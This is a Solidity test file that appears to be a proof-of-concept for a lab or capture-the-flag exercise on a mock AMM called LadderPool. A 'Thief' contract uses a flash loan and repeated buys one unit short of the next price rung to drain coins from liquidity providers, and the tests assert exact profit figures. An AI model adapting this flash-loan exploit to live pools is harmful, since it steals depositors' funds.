// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {FlashLender, Token} from "../tick-precision/src/Imports.sol";
import {LadderPool} from "../tick-precision/src/LadderPool.sol";
import {IFlashBorrower} from "../../shared/IFlashBorrower.sol";

interface Vm {
    function prank(address) external;
}

contract Thief is IFlashBorrower {
    Token private immutable fig;
    Token private immutable coin;
    LadderPool private immutable pool;
    FlashLender private immutable lender;
    uint256 private rounds;

    constructor(Token fig_, Token coin_, LadderPool pool_, FlashLender lender_) {
        (fig, coin, pool, lender) = (fig_, coin_, pool_, lender_);
        fig_.approve(address(pool_), type(uint256).max);
        coin_.approve(address(pool_), type(uint256).max);
    }

    function attack(uint256 rounds_) external {
        rounds = rounds_;
        // Every further climb costs what the way back brought, and the fees.
        lender.flashLoan(this, address(coin), pool.quoteToNextRung() + (rounds_ - 1) * 5_000 ether, "");
        coin.transfer(msg.sender, coin.balanceOf(address(this)));
    }

    function onFlashLoan(address, address, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        for (uint256 i; i < rounds; ++i) {
            // One unit less than it takes to be across.
            pool.buyBase(pool.quoteToNextRung() - 1, 0);
            pool.sellBase(fig.balanceOf(address(this)), 0);
        }
        coin.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}

contract TickPrecisionTest {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address constant ALICE = address(0xA11CE);
    address constant BOB = address(0xB0B);
    address constant ATTACKER = address(0xBAD);

    Token fig;
    Token coin;
    LadderPool pool;
    FlashLender lender;

    function setUp() public {
        fig = new Token("Fig", "FIG");
        coin = new Token("Coin", "COIN");
        pool = new LadderPool(fig, coin, 0.7 ether, 1.15 ether);
        lender = new FlashLender(5);
        fig.mint(ALICE, 2_300_000 ether);
        coin.mint(ALICE, 900_000 ether);
        fig.mint(BOB, 4_500_000 ether);
        coin.mint(BOB, 4_500_000 ether);
        coin.mint(address(lender), 5_000_000 ether);
        fig.mint(address(lender), 4_000_000 ether);
        _place(ALICE, 10, 11, 60_000_000 ether);
        _place(BOB, 0, 24, 9_000_000 ether);
    }

    function _place(address who, uint256 low, uint256 high, uint256 amount) private {
        vm.prank(who);
        fig.approve(address(pool), 1e60);
        vm.prank(who);
        coin.approve(address(pool), 1e60);
        vm.prank(who);
        pool.place(low, high, amount);
    }

    function _gain(uint256 rounds) private returns (uint256) {
        Thief thief = new Thief(fig, coin, pool, lender);
        vm.prank(ATTACKER);
        thief.attack(rounds);
        assert(fig.balanceOf(address(thief)) == 0);
        return coin.balanceOf(ATTACKER);
    }

    function test_attack_pays() public {
        assert(_gain(1) == 56046987995931214278639);
    }

    function test_four_rounds_pay_more() public {
        assert(_gain(4) == 88107573124162932546275);
    }
}
